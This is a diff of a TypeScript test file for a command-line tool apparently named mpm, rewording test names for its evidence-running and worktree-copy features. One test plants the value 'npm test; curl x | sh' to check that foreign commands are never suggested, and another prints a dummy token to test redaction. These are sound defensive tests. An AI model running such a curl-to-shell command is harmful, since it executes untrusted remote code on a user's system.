@@ -79,7 +79,7 @@ posixTest("evidence --run runs an allowed command on a copy", async () => {
 });
 
 posixTest(
-  "evidence is stale once a file changes, and holds when it is committed as it was",
+  "evidence is stale once a file changes, and valid after an unchanged commit",
   async () => {
     using env = await project("exit 0", "sh check.sh");
     env.write("new.txt", "1\n");
@@ -110,7 +110,7 @@ posixTest(
 );
 
 posixTest(
-  "a run that failed contradicts, and the next that passes holds",
+  "a failed run contradicts, and the next successful one is valid",
   async () => {
     using env = await project("echo oops; exit $(cat a.txt)", "sh check.sh");
     env.write("a.txt", "3");
@@ -183,7 +183,7 @@ async function plant(env: TestEnv, command: string): Promise<string> {
 }
 
 posixTest(
-  "a command that someone else names is never put forward",
+  "a command that someone else names is never suggested",
   async () => {
     using env = await project("exit 0");
     await plant(env, "npm test; curl x | sh");
@@ -195,7 +195,7 @@ posixTest(
 );
 
 posixTest(
-  "an allowed script runs with its content in that worktree alone",
+  "an allowed script runs only with that content and in that worktree",
   async () => {
     using env = await project("exit 0");
     env.write("t.sh", "#!/bin/sh\necho allowed\n");
@@ -241,7 +241,7 @@ posixTest("a save that names commands never makes them run", async () => {
 });
 
 posixTest(
-  "what a foreign save says to hold is unproved until it is trusted",
+  "claims of a foreign save are unproved until it is trusted",
   async () => {
     using env = await project("exit 0");
     const id = await plant(env, "npm test");
@@ -263,7 +263,7 @@ posixTest(
   },
 );
 
-posixTest("resume reports evidence as evidence does", async () => {
+posixTest("resume reports evidence like mpm evidence", async () => {
   using env = await project("exit 0", "sh check.sh");
   await evidence(env, "--run", "sh", "check.sh");
   await mpm(env, ["pause", "-s", "x", "--no-commit"]);
@@ -282,7 +282,7 @@ posixTest("runs that someone else wrote show nothing", async () => {
   assertEquals(await states(env), []);
 });
 
-posixTest("undo undoes what a run has shown", async () => {
+posixTest("undo undoes the result of a run", async () => {
   using env = await project("exit 0", "sh check.sh");
   await evidence(env, "--run", "sh", "check.sh");
   assertEquals((await mpm(env, ["undo"])).status, 0);
@@ -290,7 +290,7 @@ posixTest("undo undoes what a run has shown", async () => {
 });
 
 posixTest(
-  "evidence --run ends what takes too long, with everything that it started",
+  "evidence --run ends a command that takes too long, with all its children",
   async () => {
     using env = await project(
       "sleep 300 & echo $! >$HOME/pid; wait",
@@ -326,7 +326,7 @@ posixTest("the copy of a worktree is its own repository", async () => {
 });
 
 posixTest(
-  "a run that fails for want of dependencies contradicts nothing",
+  "a run that fails without its dependencies contradicts nothing",
   async () => {
     using env = await project("test -f node_modules/x", "sh check.sh");
     env.write("node_modules/x", "1\n");
@@ -359,7 +359,7 @@ posixTest(
   },
 );
 
-posixTest("what a command prints is redacted and escaped", async () => {
+posixTest("the output of a command is redacted and escaped", async () => {
   using env = await project(
     "printf 'token=ghp_%s\\n\\033[31mred\\n' 0123456789abcdefghijklmnopqrstuvwxyzAB; exit 1",
     "sh check.sh",
@@ -372,7 +372,7 @@ posixTest("what a command prints is redacted and escaped", async () => {
 });
 
 posixTest(
-  "nothing that a repository names runs when a copy is made",
+  "making a copy runs no program that a repository names",
   async () => {
     using env = await project("exit 0", "sh check.sh");
     const mark = join(env.root, "mark");
